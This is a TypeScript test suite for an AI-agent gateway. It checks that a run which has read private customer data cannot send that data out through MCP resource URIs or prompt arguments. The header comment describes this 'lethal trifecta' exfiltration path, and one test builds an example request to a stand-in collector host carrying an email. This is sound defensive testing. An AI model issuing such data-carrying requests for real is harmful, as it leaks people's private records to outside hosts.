/**
 * The lethal trifecta through resources and prompts: a run that read private
 * data (a customer record) reaches out through a request that is not a tool
 * call. A `resources/read` URI (`https://collector.example/?d=<the record>`
 * on an upstream that fetches the web) and a `prompts/get` argument to an
 * upstream that sends data out both carry whatever the agent puts in them to
 * that upstream. Flow rules apply to them as to an external tool call; since
 * neither can wait for a person, a rule that would hold the call refuses it.
 * Real stdio upstreams record every request they receive: that record is
 * the proof that nothing left.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, startTestGateway, type TestGateway, tempDir } from '../helpers/harness.js';

const dir = tempDir();
const record = join(dir, 'door-record.jsonl');
writeFileSync(record, '');
const EMAIL = 'ann.lee@example.com';

const door = (name: string, env: Record<string, string>) => `
  ${name}:
    command: ${JSON.stringify(process.execPath)}
    args: [--import, tsx, ${JSON.stringify(join(ROOT, 'test/gateway/fixtures/door-server.ts'))}]
    cwd: ${JSON.stringify(ROOT)}
    env: ${JSON.stringify({ DOOR_RECORD: record, ...env })}`;

const profile = (name: string, flow = '') => `
  ${name}:
    tools: [crm__lookup, web__lookup]
    resources:
      - { upstream: web, uris: ["https://*"], taints: true }
      - { upstream: crm, uris: ["note://*"] }
    prompts: [web__greet, crm__greet]${flow}`;

const POLICY = `
version: 1
store: { sqlite: ./bulkhead.db }
upstreams:${door('crm', { DOOR_REPLY: `customer: Ann Lee <${EMAIL}>` })}
    sources: private${door('web', {})}
tools:
  crm:
    lookup: { class: read }
  web:
    lookup: { class: external }
profiles:${profile('agent')}${profile('strict', '\n    flow: { private_external: refuse }')}${profile('lenient', '\n    flow: { private_external: allow }')}
`;

let gw: TestGateway;
beforeAll(async () => {
  gw = await startTestGateway(POLICY, { dir });
});
afterAll(async () => {
  await gw?.close();
});

function received(): { method: string; uri?: string; arguments?: Record<string, string> }[] {
  return readFileSync(record, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));
}
const leaked = () => received().some((r) => JSON.stringify(r).includes(EMAIL));

async function privateRun(profileName: string, via: 'tool' | 'resource') {
  const agent = await gw.agent(profileName);
  if (via === 'tool') await agent.client.callTool({ name: 'crm__lookup', arguments: { id: '7' } });
  else await agent.client.readResource({ uri: 'note://customer/7' });
  return agent;
}

describe('resources and prompts as a way out', () => {
  it('a run that read nothing private reads web resources and gets prompts', async () => {
    const agent = await gw.agent('agent');
    const read = await agent.client.readResource({ uri: 'https://docs.example/page' });
    expect(read.contents).toHaveLength(1);
    const prompt = await agent.client.getPrompt({ name: 'web__greet', arguments: { who: 'team' } });
    expect(prompt.messages).toHaveLength(1);
  });

  for (const via of ['tool', 'resource'] as const) {
    it(`after a private read through a ${via}, a web resource URI carrying data is refused before the upstream`, async () => {
      const agent = await privateRun('agent', via);
      const uri = `https://collector.example/?d=${encodeURIComponent(EMAIL)}`;
      await expect(agent.client.readResource({ uri })).rejects.toThrow(/private data/);
      expect(received().some((r) => r.uri === uri)).toBe(false);
      const denied = await gw.gateway.store.events.list({
        runId: agent.runId,
        kind: 'resources/read',
        decision: 'deny',
      });
      expect(denied.at(-1)).toMatchObject({ code: 'flow_blocked' });
      expect(JSON.stringify(denied.at(-1)?.data)).toMatch(/crm__lookup|resource:note:\/\/customer/);
    });

    it(`after a private read through a ${via}, a prompt argument to an upstream that sends data out is refused`, async () => {
      const agent = await privateRun('agent', via);
      await expect(agent.client.getPrompt({ name: 'web__greet', arguments: { who: EMAIL } })).rejects.toThrow(
        /private data/,
      );
      const denied = await gw.gateway.store.events.list({
        runId: agent.runId,
        kind: 'prompts/get',
        decision: 'deny',
      });
      expect(denied.at(-1)).toMatchObject({ code: 'flow_blocked' });
      // The value is recognised in the argument it went out in.
      expect(JSON.stringify(denied.at(-1)?.data)).toContain('/who');
    });
  }

  it('nothing the run read reached the web upstream', () => {
    expect(leaked()).toBe(false);
  });

  it('the private source itself stays readable: it does not send data out', async () => {
    const agent = await privateRun('agent', 'tool');
    const read = await agent.client.readResource({ uri: 'note://customer/8' });
    expect(read.contents).toHaveLength(1);
    const prompt = await agent.client.getPrompt({ name: 'crm__greet', arguments: { who: EMAIL } });
    expect(prompt.messages).toHaveLength(1);
  });

  it('a profile that refuses refuses too, and one that allows lets it through', async () => {
    const strict = await privateRun('strict', 'tool');
    await expect(strict.client.readResource({ uri: 'https://docs.example/x' })).rejects.toThrow(
      /private data/,
    );
    const lenient = await privateRun('lenient', 'tool');
    const read = await lenient.client.readResource({ uri: 'https://docs.example/allowed' });
    expect(read.contents).toHaveLength(1);
    expect(received().some((r) => r.uri === 'https://docs.example/allowed')).toBe(true);
  });
});
